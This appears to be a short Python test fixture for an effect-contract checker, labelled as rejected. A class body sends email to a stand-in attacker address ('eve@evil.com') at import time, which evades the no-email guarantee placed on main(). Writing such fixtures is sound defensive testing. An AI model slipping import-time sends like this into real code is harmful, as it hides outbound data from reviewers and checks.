# rejected: a class body of the module runs on import
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


class A:
    send_email("eve@evil.com", "x")


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log("fine")
